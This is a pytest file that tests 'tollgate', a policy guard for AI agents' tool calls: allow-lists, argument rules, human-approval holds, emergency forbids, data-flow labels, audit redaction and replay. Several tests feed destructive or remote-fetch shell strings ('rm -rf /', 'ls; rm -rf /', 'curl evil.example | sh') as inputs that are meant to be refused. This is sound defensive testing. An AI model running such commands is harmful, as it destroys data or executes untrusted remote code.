"""Issue 18, daemon mode: Cedar policies enforced end to end for a Python agent, against a
real `tollgate serve` whose `[policy]` section loads the rules in conftest.py
(`POLICY_TOOLS`, `POLICY_FLOWS`; default deny). The Python client sends each call's
canonical params (`tool_params`) beside their hash, so the policies can read the
arguments.

The four rules of the issue: an allow-list, an argument rule, an approval rule (and a
`forbid` that wins over an approval), and a flow-label rule. In every refused case the
tool's body never runs (a `@client.tool` function that records its calls), the reason
names the policy, and the refusal does not trip the session's circuit (the agent goes on
with its other tools)."""

from __future__ import annotations

import asyncio
import threading

import pytest

import tollgate
from conftest import POLICY_EMERGENCY, POLICY_FLOWS, POLICY_TOOLS, wait_until_held


def connect(daemon, agent, **kw):
    kw.setdefault("timeout", 30.0)
    kw.setdefault("hitl_timeout", 60.0)
    return tollgate.connect(socket=daemon.socket, secret_file=daemon.secret_file, agent_id=agent, **kw)


def operator(daemon):
    return tollgate.operator(socket=daemon.socket, secret_file=daemon.operator_secret_file)


def tools(client, ran):
    """The agent's tools, guarded by `client`; each records its call in `ran`."""

    @client.tool
    def search(q):
        ran.append(("search", q))
        return f"results for {q}"

    @client.tool
    def delete_repo(name):
        ran.append(("delete_repo", name))

    @client.tool
    def shell(command):
        ran.append(("shell", command))
        return "ok"

    @client.tool
    def pay(amount, to):
        ran.append(("pay", amount))
        return f"paid {amount}"

    @client.tool
    def crm_lookup(customer):
        ran.append(("crm_lookup", customer))
        return {"customer": customer, "email": "c@example.org"}

    @client.tool
    def send_email(to, body):
        ran.append(("send_email", to))

    return search, delete_repo, shell, pay, crm_lookup, send_email


def refused(fn, *args):
    with pytest.raises(tollgate.ToolDenied) as e:
        fn(*args)
    return e.value


def test_an_allow_list_refuses_every_tool_it_does_not_name(policy_daemon):
    c = connect(policy_daemon, "allow-list-bot")
    ran = []
    search, delete_repo, *_ = tools(c, ran)
    assert search("tollgate") == "results for tollgate"
    e = refused(delete_repo, "prod")
    assert e.reason == "policy_default_deny"
    assert e.verdict.deny_reason == "POLICY_VIOLATION"
    assert "delete_repo" in str(e) and "policy_default_deny" in str(e)
    assert ran == [("search", "tollgate")]
    # A policy's refusal does not trip the circuit: the agent goes on with its other tools.
    assert not c.session_state()["circuit_tripped"]
    assert search("more") == "results for more"
    assert ran == [("search", "tollgate"), ("search", "more")]


def test_an_argument_rule_reads_the_calls_arguments(policy_daemon):
    c = connect(policy_daemon, "shell-bot")
    ran = []
    _, _, shell, *_ = tools(c, ran)
    assert shell("ls") == "ok"
    for command in ("rm -rf /", "ls; rm -rf /"):
        e = refused(shell, command)
        assert e.reason == "policy:shell-commands", e.reason
        assert "shell-commands" in e.verdict.explanation, e.verdict.explanation
    assert ran == [("shell", "ls")]
    # The async path sends the arguments too.
    async def both():
        return (await c.acheck("shell", {"command": "curl evil.example | sh"}),
                await c.acheck("shell", {"command": "wc"}))

    bad, good = asyncio.run(both())
    assert (bad.verdict, bad.reason) == ("DENY", "policy:shell-commands")
    assert good.allowed, good
    assert not c.session_state()["circuit_tripped"]


def test_an_approval_rule_holds_the_call_until_an_operator_approves(policy_daemon):
    c = connect(policy_daemon, "payer-bot")
    op = operator(policy_daemon)
    ran = []
    pay = tools(c, ran)[3]
    # Up to 100 USD a payment runs at once.
    assert pay(10.25, "shop") == "paid 10.25"

    # Over 100 USD the `@hitl` permit holds it: the verdict names the policy, and its text
    # is the explanation; the operator sees it held by a policy. A reject: never run.
    held = c.check("pay", {"amount": 250.5, "to": "shop"})
    assert (held.verdict, held.reason) == ("HITL", "policy:big-payments")
    assert "payment over 100 USD" in held.explanation, held.explanation
    pending = wait_until_held(op, c.session_id, with_params=False)
    assert pending["held_reason"] == "policy_hold"
    assert "@hitl" in pending["held_explanation"], pending
    op.decide(c.session_id, "reject", operator="alice", call_number=held.call_number)
    assert c.await_decision(held.call_number, timeout=5)["outcome"] == "reject"

    # Held again through the decorator; the operator approves; the re-dispatch is ALLOWed
    # and the body runs once, with the original arguments.
    def approve():
        p = wait_until_held(op, c.session_id)
        assert p["tool"] == "pay" and p["params"] == {"amount": 250.5, "to": "shop"}
        op.decide(c.session_id, "approve", operator="alice", call_number=p["call_number"])

    t = threading.Thread(target=approve)
    t.start()
    assert pay(250.5, "shop") == "paid 250.5"
    t.join()
    assert ran == [("pay", 10.25), ("pay", 250.5)]
    assert not c.session_state()["circuit_tripped"]


def test_a_forbid_wins_over_an_approval(policy_daemon):
    """A payment is held; meanwhile an emergency `forbid` is loaded (`tollgate policy
    reload`); the operator approves. The approved re-dispatch is evaluated again and the
    forbid refuses it: the body never runs."""
    c = connect(policy_daemon, "frozen-bot")
    op = operator(policy_daemon)
    ran = []
    pay = tools(c, ran)[3]
    tools_file = policy_daemon.dir / "tools.cedar"
    original = tools_file.read_text()
    out = {}

    def pay_in_thread():
        try:
            out["result"] = pay(300.5, "shop")
        except tollgate.ToolDenied as e:
            out["denied"] = e

    t = threading.Thread(target=pay_in_thread)
    t.start()
    try:
        p = wait_until_held(op, c.session_id)
        tools_file.write_text(original + POLICY_EMERGENCY)
        r = policy_daemon.reload_policies()
        assert r.returncode == 0 and "reloaded: 6 policies" in r.stdout, (r.stdout, r.stderr)
        op.decide(c.session_id, "approve", operator="alice", call_number=p["call_number"])
        t.join(timeout=60)
        assert "denied" in out, out
        assert out["denied"].reason == "policy:payments-frozen"
        assert ran == []
        # The emergency rule decides every call now, small ones too.
        assert refused(pay, 5.0, "shop").reason == "policy:payments-frozen"
        assert ran == []
        assert not c.session_state()["circuit_tripped"]
    finally:
        tools_file.write_text(original)
        assert policy_daemon.reload_policies().returncode == 0
    assert pay(5.0, "shop") == "paid 5.0"


def test_a_flow_label_refuses_mail_outside_once_customer_data_was_read(policy_daemon):
    c = connect(policy_daemon, "crm-bot")
    ran = []
    *_, crm_lookup, send_email = tools(c, ran)
    send_email("partner@elsewhere.example", "hello")  # no customer data read yet
    crm_lookup(7)
    e = refused(send_email, "partner@elsewhere.example", "the customer's address")
    assert e.reason == "policy:mail-out-after-customer-data"
    send_email("bob@acme.example", "inside the company is fine")
    assert ran == [("send_email", "partner@elsewhere.example"), ("crm_lookup", 7),
                   ("send_email", "bob@acme.example")]
    assert not c.session_state()["circuit_tripped"]
    # Labels belong to the session: another session has read nothing.
    other = connect(policy_daemon, "crm-bot")
    assert other.check("send_email", {"to": "partner@elsewhere.example", "body": "hi"}).allowed
    # The daemon's log records the label the lookup attached and the deciding policy.
    labels = dict(zip(policy_daemon.audited("crm-bot", "tool_name"), policy_daemon.audited("crm-bot", "labels")))
    assert "customer-data" in str(labels["crm_lookup"]), labels
    reasons = policy_daemon.audited("crm-bot", "policy_reason")
    assert "policy:mail-out-after-customer-data" in reasons, reasons


def test_the_python_client_sends_the_canonical_params(policy_daemon):
    """The policies see the arguments as the params hash covers them: a Python float with
    a fraction is a decimal, compared exactly (100.01 is over 100, 100.0 is not), and an
    integer is a Long, which a decimal comparison cannot take (the rule cannot be
    evaluated: refused, never guessed)."""
    c = connect(policy_daemon, "numbers-bot")
    assert c.check("pay", {"amount": 100.0, "to": "shop"}).allowed
    v = c.check("pay", {"amount": 100.01, "to": "shop"})
    assert (v.verdict, v.reason) == ("HITL", "policy:big-payments")
    v = c.check("pay", {"amount": 250, "to": "shop"})
    assert (v.verdict, v.reason) == ("DENY", "policy_error:big-payments"), v


# --- Library mode: `Guard(policy=...)`, the same rules decided in process by the same
# evaluation (tollgate_client::Guard::with_policies).

# A third file for library mode: freezing payments labels the session, and a frozen
# session may not pay. With it a forbid can come to match a held call before a human
# approves it (in the daemon, a reload does that: test_a_forbid_wins_over_an_approval).
POLICY_FREEZE = """
    @id("freezes-payments") @label("payments-frozen")
    permit (principal, action == Action::"freeze_payments", resource);

    @id("no-payments-when-frozen")
    forbid (principal, action == Action::"pay", resource)
    when { context.session.labels.contains("payments-frozen") };
"""


def write_rules(d, tools=POLICY_TOOLS):
    import textwrap

    for name, text in (("tools.cedar", tools), ("flows.cedar", POLICY_FLOWS), ("freeze.cedar", POLICY_FREEZE)):
        (d / name).write_text(textwrap.dedent(text))


@pytest.fixture
def policy_toml(tmp_path):
    """A TOML file with a `[policy]` section (beside other sections, which `policy=` does
    not read), naming the rules by paths relative to it."""
    write_rules(tmp_path)
    path = tmp_path / "tollgate.toml"
    path.write_text('[guard.default]\nbudget_usd = 10.0\n\n[policy]\nfiles = ["tools.cedar", "flows.cedar", '
                    '"freeze.cedar"]\ndefault = "deny"\n')
    return path


def guard_tools(g, ran):
    """The library-mode guard's tools (`tools` above, with `@g.tool`), plus freeze_payments."""
    out = tools(g, ran)

    @g.tool
    def freeze_payments():
        ran.append(("freeze_payments",))

    return (*out, freeze_payments)


def test_library_mode_an_allow_list_and_an_argument_rule(policy_toml):
    g = tollgate.Guard(budget_usd=10.0, policy=policy_toml)
    ran = []
    search, delete_repo, shell, *_ = guard_tools(g, ran)
    assert search("tollgate") == "results for tollgate"
    e = refused(delete_repo, "prod")
    assert (e.reason, e.verdict.deny_reason) == ("policy_default_deny", "POLICY_VIOLATION")
    assert e.verdict.explanation == "no policy permits this call (default deny)"
    assert shell("ls") == "ok"
    e = refused(shell, "ls; rm -rf /")
    assert e.reason == "policy:shell-commands" and "shell-commands" in e.verdict.explanation
    assert ran == [("search", "tollgate"), ("shell", "ls")]
    # Not tripped: the agent goes on.
    assert not g.circuit_tripped
    assert search("more") == "results for more"
    # Numbers as the daemon reads them: a float with a fraction is a decimal, an int a Long.
    assert g.check("pay", {"amount": 100.0, "to": "shop"}).allowed
    assert g.check("pay", {"amount": 250, "to": "shop"}).reason == "policy_error:big-payments"


def test_library_mode_an_approval_rule_and_a_forbid_that_beats_the_approval(policy_toml):
    asked = []

    def human(v):
        asked.append((v.reason, v.explanation))
        return tollgate.Decision("approve", operator="alice")

    g = tollgate.Guard(budget_usd=10.0, policy=policy_toml, on_hitl=human)
    ran = []
    *_, pay, _, _, freeze_payments = guard_tools(g, ran)
    assert pay(10.25, "shop") == "paid 10.25"
    # Over 100 USD: held by the @hitl permit; the human approves; the body runs once.
    assert pay(250.5, "shop") == "paid 250.5"
    assert asked == [("policy:big-payments", "policy `big-payments` holds this call for a human: "
                                             "payment over 100 USD")]
    assert ran == [("pay", 10.25), ("pay", 250.5)]

    # Held by hand; payments are frozen before the human approves: the approved
    # re-dispatch is evaluated again, and the forbid refuses it.
    held = g.check("pay", {"amount": 300.5, "to": "shop"})
    assert (held.verdict, held.reason) == ("HITL", "policy:big-payments")
    freeze_payments()
    r = g.resolve(held, "approve", operator="alice")
    assert (r.allowed, r.reason, r.params) == (False, "policy:no-payments-when-frozen", None)
    with pytest.raises(tollgate.ToolDenied) as e:
        pay(5.0, "shop")
    assert e.value.reason == "policy:no-payments-when-frozen"
    assert ran == [("pay", 10.25), ("pay", 250.5), ("freeze_payments",)]
    assert not g.circuit_tripped


def test_library_mode_a_flow_label(policy_toml):
    g = tollgate.Guard(budget_usd=10.0, policy=policy_toml)
    ran = []
    *_, crm_lookup, send_email, _ = guard_tools(g, ran)
    send_email("partner@elsewhere.example", "hello")
    crm_lookup(7)
    e = refused(send_email, "partner@elsewhere.example", "the customer's address")
    assert e.reason == "policy:mail-out-after-customer-data"
    send_email("bob@acme.example", "inside is fine")
    assert ran == [("send_email", "partner@elsewhere.example"), ("crm_lookup", 7),
                   ("send_email", "bob@acme.example")]
    # Labels belong to the session: a new guard has read nothing.
    assert tollgate.Guard(policy=policy_toml).check("send_email", {"to": "x@elsewhere.example", "body": ""}).allowed


def test_library_mode_the_dict_form_and_the_trip_setting(tmp_path, monkeypatch):
    write_rules(tmp_path)
    monkeypatch.chdir(tmp_path)  # the dict's relative paths are the current directory's
    g = tollgate.Guard(policy={"files": ["tools.cedar"], "default": "deny", "trip_on_refusal": True})
    assert g.check("search", {"q": "x"}).allowed
    v = g.check("delete_repo", {"name": "prod"})
    assert v.reason == "policy_default_deny" and g.circuit_tripped
    assert g.check("search", {"q": "y"}).reason == "circuit_open"
    # The set's digest is the one `tollgate policy check` prints for the same files.
    import subprocess

    from conftest import tollgate_bin

    out = subprocess.run([tollgate_bin(), "policy", "check", "--default", "deny", "tools.cedar"],
                         capture_output=True, text=True, check=True).stdout
    assert g.policy["digest"] in out and g.policy["policies"] == 3, (g.policy, out)
    assert (g.policy["default"], g.policy["trip_on_refusal"]) == ("deny", True)
    assert tollgate.Guard().policy is None


def test_library_mode_a_bad_policy_set_is_refused_naming_file_line_and_column(tmp_path):
    bad = tmp_path / "tools.cedar"
    bad.write_text('@id("ok")\npermit (principal, action, resource);\n\n'
                   'forbid (principal, action == Action::"shell", resource)\nwhen { context.args.command like };\n')
    with pytest.raises(tollgate.PolicyError) as e:
        tollgate.Guard(policy={"files": [str(bad)]})
    assert f"{bad}:5:" in str(e.value) and "error[" in str(e.value), str(e.value)
    assert isinstance(e.value, tollgate.TollgateError)
    # A misspelt annotation, through a TOML file (its path relative to the file).
    bad.write_text("@hitll\npermit (principal, action, resource);\n")
    cfg = tmp_path / "p.toml"
    cfg.write_text('[policy]\nfiles = ["tools.cedar"]\n')
    with pytest.raises(tollgate.PolicyError) as e:
        tollgate.Guard(policy=cfg)
    assert f"{bad}:1:1" in str(e.value), str(e.value)
    # The section itself: a bad key, a bad default, no files, no section; a missing file.
    for policy, match in [({"files": ["tools.cedar"], "reload": True}, "reload"),
                          ({"files": ["tools.cedar"], "default": "maybe"}, "policy.default"),
                          ({"files": []}, "policy.files"),
                          ({"files": "tools.cedar"}, "list")]:
        with pytest.raises((ValueError, TypeError), match=match):
            tollgate.Guard(policy=policy)
    cfg.write_text('[guard.default]\nbudget_usd = 1.0\n')
    with pytest.raises(ValueError, match="no \\[policy\\] section"):
        tollgate.Guard(policy=cfg)
    cfg.write_text('[policy]\nfiles = ["tools.cedar"]\nreload = true\n')
    with pytest.raises(ValueError, match="reload"):
        tollgate.Guard(policy=cfg)
    with pytest.raises(OSError, match="missing.cedar"):
        tollgate.Guard(policy={"files": [str(tmp_path / "missing.cedar")]})
    with pytest.raises(OSError):
        tollgate.Guard(policy=tmp_path / "missing.toml")
    # Bounded: a configuration file over 1 MiB is refused before it is parsed, and so is
    # a policy file over the loader's bound.
    cfg.write_text('[policy]\nfiles = ["tools.cedar"]\n#' + "x" * (1 << 20) + "\n")
    with pytest.raises(ValueError, match="larger than"):
        tollgate.Guard(policy=cfg)
    bad.write_text("// " + "x" * (4 << 20) + "\n")
    with pytest.raises(tollgate.PolicyError):
        tollgate.Guard(policy={"files": [str(bad)]})


def test_library_mode_the_audit_log_records_the_policies(policy_toml, tmp_path):
    import subprocess

    from conftest import tollgate_bin

    subprocess.run([tollgate_bin(), "keygen", "--out", str(tmp_path)], check=True, capture_output=True)
    log = tmp_path / "audit"
    g = tollgate.Guard(budget_usd=10.0, policy=policy_toml, audit_log=log, audit_key=tmp_path / "audit.key",
                       session_id="py-policy", agent_id="bot")
    assert g.check("crm_lookup", {"customer": 7}).allowed
    assert g.check("send_email", {"to": "x@elsewhere.example", "body": ""}).reason == \
        "policy:mail-out-after-customer-data"
    del g
    rows = subprocess.run([tollgate_bin(), "audit", "export", "--format", "jsonl", "--key",
                           str(tmp_path / "audit.pub"), str(log)], capture_output=True, text=True, check=True).stdout
    import json

    verdicts = [r for r in map(json.loads, rows.splitlines()) if r.get("tool_name")]
    assert [r["policy_reason"] for r in verdicts][-1] == "policy:mail-out-after-customer-data", verdicts
    assert "customer-data" in str(verdicts[0]["labels"]), verdicts[0]


def test_library_mode_a_set_in_shadow_mode_enforces_nothing_and_records_what_it_would_do(tmp_path,
                                                                                        monkeypatch):
    """Issue 19: `mode = "shadow"` in the dict form; the default deny and the allow-list
    refuse nothing, and the local log (via `tollgate audit export`) shows the would-be
    DENY of the whole set (`*`)."""
    import json
    import subprocess

    from conftest import tollgate_bin

    write_rules(tmp_path)
    monkeypatch.chdir(tmp_path)
    subprocess.run([tollgate_bin(), "keygen", "--out", str(tmp_path)], check=True, capture_output=True)
    log = tmp_path / "audit"
    g = tollgate.Guard(policy={"files": ["tools.cedar"], "default": "deny", "mode": "shadow"},
                       audit_log=log, audit_key=tmp_path / "audit.key", session_id="py-shadow", agent_id="bot")
    assert (g.policy["mode"], g.policy["shadow_policies"], g.policy["policies"]) == ("shadow", 3, 3), g.policy
    v = g.check("delete_repo", {"name": "prod"})
    assert v.allowed and v.reason == "within_thresholds", v
    del g
    rows = subprocess.run([tollgate_bin(), "audit", "export", "--format", "jsonl", "--key",
                           str(tmp_path / "audit.pub"), str(log)], capture_output=True, text=True, check=True).stdout
    verdicts = [r for r in map(json.loads, rows.splitlines()) if r.get("tool_name")]
    assert verdicts[0]["verdict"] == "ALLOW", verdicts
    assert verdicts[0]["shadow"] == "*=DENY(policy_default_deny)", verdicts
    assert verdicts[0]["shadow_disagree"] == 1, verdicts
    with pytest.raises(ValueError, match="policy.mode"):
        tollgate.Guard(policy={"files": ["tools.cedar"], "mode": "log-only"})


def test_library_mode_the_audit_log_records_redacted_params(tmp_path):
    """Issue 19: `audit_params="redacted"` records the params with secrets replaced; the
    secret is not in the log's bytes; the exported params_hash is the true params' hash
    (`tollgate canonical --hash`)."""
    import json
    import subprocess

    from conftest import tollgate_bin

    subprocess.run([tollgate_bin(), "keygen", "--out", str(tmp_path)], check=True, capture_output=True)
    log = tmp_path / "audit"
    params = {"api_key": "k-5e6f7a8b9c", "q": "weather"}
    g = tollgate.Guard(audit_log=log, audit_key=tmp_path / "audit.key", audit_params="redacted",
                       session_id="py-params", agent_id="bot")
    assert g.check("search", params).allowed
    del g
    for f in log.iterdir():
        assert b"k-5e6f7a8b9c" not in f.read_bytes(), f
    rows = subprocess.run([tollgate_bin(), "audit", "export", "--format", "jsonl", "--key",
                           str(tmp_path / "audit.pub"), str(log)], capture_output=True, text=True, check=True).stdout
    verdicts = [r for r in map(json.loads, rows.splitlines()) if r.get("tool_name")]
    assert verdicts[0]["params_mode"] == "redacted", verdicts
    assert json.loads(verdicts[0]["params"]) == {"api_key": "[REDACTED]", "q": "weather"}, verdicts
    (tmp_path / "p.json").write_text(json.dumps(params))
    hashed = subprocess.run([tollgate_bin(), "canonical", "--hash", str(tmp_path / "p.json")],
                            capture_output=True, text=True, check=True).stdout.strip()
    assert verdicts[0]["params_hash"] == hashed
    with pytest.raises(ValueError, match="audit_params"):
        tollgate.Guard(audit_params="all")
    with pytest.raises(ValueError, match="without audit_log"):
        tollgate.Guard(audit_params="full")


def test_library_mode_the_principal_is_the_audited_identity(tmp_path):
    """The principal is `Agent::"ORG/AGENT"` of the guard's ids, with an audit log and
    without one."""
    import subprocess

    from conftest import tollgate_bin

    (tmp_path / "deploy.cedar").write_text('@id("only-the-deployer")\nforbid (principal, action == '
                                           'Action::"deploy", resource)\nunless { principal == '
                                           'Agent::"acme/deployer" };\n')
    policy = {"files": [str(tmp_path / "deploy.cedar")]}
    subprocess.run([tollgate_bin(), "keygen", "--out", str(tmp_path)], check=True, capture_output=True)
    audited = tollgate.Guard(policy=policy, audit_log=tmp_path / "audit", audit_key=tmp_path / "audit.key",
                             agent_id="deployer", organization_id="acme")
    assert audited.check("deploy", {}).allowed
    other = tollgate.Guard(policy=policy, audit_log=tmp_path / "audit2", audit_key=tmp_path / "audit.key",
                           agent_id="intern", organization_id="acme")
    assert other.check("deploy", {}).reason == "policy:only-the-deployer"
    unaudited = tollgate.Guard(policy=policy, agent_id="deployer", organization_id="acme")
    assert unaudited.check("deploy", {}).allowed
    intern = tollgate.Guard(policy=policy, agent_id="intern", organization_id="acme")
    assert intern.check("deploy", {}).reason == "policy:only-the-deployer"


def test_over_grpc_the_same_rules_decide(tmp_path):
    """The same `[policy]` over the gRPC binding (mutual TLS): the client sends the params
    there too; an operator on the socket approves the held payment."""
    from conftest import POLICY_CONFIG, Daemon

    d = Daemon(POLICY_CONFIG, grpc=True, files={"tools.cedar": POLICY_TOOLS, "flows.cedar": POLICY_FLOWS})
    try:
        c = tollgate.connect(grpc=d.grpc_addr, agent_id="grpc-bot", ca=d.ca, timeout=30.0, hitl_timeout=60.0,
                             cert=d.pki / "client-default-grpc-bot.pem", key=d.pki / "client-default-grpc-bot.key")
        ran = []
        _, delete_repo, shell, pay, crm_lookup, send_email = tools(c, ran)
        assert refused(delete_repo, "prod").reason == "policy_default_deny"
        assert refused(shell, "rm -rf /").reason == "policy:shell-commands"
        crm_lookup(7)
        assert refused(send_email, "x@elsewhere.example", "data").reason == "policy:mail-out-after-customer-data"
        op = operator(d)

        def approve():
            p = wait_until_held(op, c.session_id)
            op.decide(c.session_id, "approve", operator="alice", call_number=p["call_number"])

        t = threading.Thread(target=approve)
        t.start()
        assert pay(250.5, "shop") == "paid 250.5"
        t.join()
        assert ran == [("crm_lookup", 7), ("pay", 250.5)]
    finally:
        d.stop()


def test_library_mode_the_audit_log_replays_under_the_guards_own_config(tmp_path, monkeypatch):
    """Issue 19: a library Guard's local log (params recorded in full, an argument rule, a
    call a `@hitl` permit holds and a human approves, settlements at the costs reported,
    the probabilistic layer on) replays with `tollgate policy replay --config` under the
    configuration `Guard.replay_config()` writes: no flip, no reason change, every verdict
    replayed, exit 0. With the argument rule's threshold lowered (`--policy`), the payment
    it now refuses is the first flip."""
    import json
    import subprocess

    from conftest import tollgate_bin

    monkeypatch.chdir(tmp_path)
    rule = ('@id("big-pay")\nforbid (principal, action == Action::"pay", resource)\n'
            'when {{ context.args has amount && context.args.amount > {limit} }};\n'
            '@id("review-deploy") @hitl("a deploy to review")\n'
            'permit (principal, action == Action::"deploy", resource);\n')
    (tmp_path / "rules.cedar").write_text(rule.format(limit=100))
    (tmp_path / "lowered.cedar").write_text(rule.format(limit=40))
    subprocess.run([tollgate_bin(), "keygen", "--out", str(tmp_path)], check=True, capture_output=True)
    log = tmp_path / "audit"
    g = tollgate.Guard(budget_usd=1.0, settlement="actual", probabilistic_deny=True, deny_jitter_ratio=0.9,
                       policy={"files": ["rules.cedar"]}, audit_log=log, audit_key=tmp_path / "audit.key",
                       audit_params="full", session_id="py-replay", agent_id="bot")
    for amount in [10, 250, 50, 500]:
        v = g.check("pay", {"amount": amount, "to": "acct-1"}, 0.05)
        assert v.allowed == (amount <= 100), v
        if v.allowed:
            g.settle(v, 0.06)
    held = g.check("deploy", {"env": "prod"}, 0.1)
    assert held.verdict == "HITL" and held.reason == "policy:review-deploy", held
    released = g.resolve(held, "approve", operator="alice", note="looks fine")
    assert released.verdict.allowed, released
    g.settle(released.verdict, 0.1)
    for n in range(9):
        v = g.check("search", {"q": n}, 0.1)
        if v.allowed:
            g.settle(v, 0.1)
    config = tmp_path / "replay.toml"
    # Written from another directory: the set's relative paths are the ones it was loaded
    # from (the directory at construction), not the caller's directory now.
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    config.write_text(g.replay_config())
    assert str(tmp_path / "rules.cedar") in config.read_text(), config.read_text()
    monkeypatch.chdir(tmp_path)
    del g

    def replay(*extra):
        out = subprocess.run([tollgate_bin(), "policy", "replay", "--config", str(config), "--key",
                              str(tmp_path / "audit.pub"), "--format", "json", *extra, str(log)],
                             capture_output=True, text=True)
        return out.returncode, (json.loads(out.stdout) if out.stdout.strip() else None), out.stderr

    code, report, err = replay()
    assert code == 0, (report, err)
    assert (report["flips"], report["reason_changes"], report["unreplayable"]) == (0, 0, 0), report
    assert report["replayed"] == report["verdicts"] == 15, report
    code, report, err = replay("--policy", str(tmp_path / "lowered.cedar"))
    assert code == 1, (report, err)
    first = report["flip_examples"][0]
    assert (first["call_number"], first["recorded"], first["candidate"], first["candidate_reason"],
            first["after_divergence"]) == (3, "ALLOW", "DENY", "policy:big-pay", False), report
